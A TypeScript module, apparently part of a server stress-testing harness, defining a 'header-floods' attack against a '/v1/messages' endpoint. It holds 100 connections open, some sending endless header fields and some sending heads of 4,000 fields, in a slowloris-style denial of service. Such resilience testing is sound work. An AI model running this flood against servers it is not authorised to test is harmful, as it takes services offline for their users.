import { sized, type Attack } from '../../attack.ts'
import { flood, headOf, keepOpen } from '../../requests.ts'

const field = 'x: y\r\n'

/** Heads without end, and heads of thousands of fields. */
export const headerFloods: Attack = {
  name: 'header-floods',
  title: 'no key: 100 endless heads; 100 connections with heads of 4,000 fields',
  run: async (target, signal, note) => {
    const head = headOf('GET /v1/messages')
    const many = `${head}${field.repeat(4000)}\r\n`
    await Promise.all([
      keepOpen(target, sized(target, 100), signal, note, (socket) => {
        socket.write(head)
        flood(socket, () => field.repeat(1000))
      }),
      keepOpen(target, sized(target, 100), signal, note, (socket) => {
        socket.resume()
        flood(socket, () => many)
      }),
    ])
  },
}
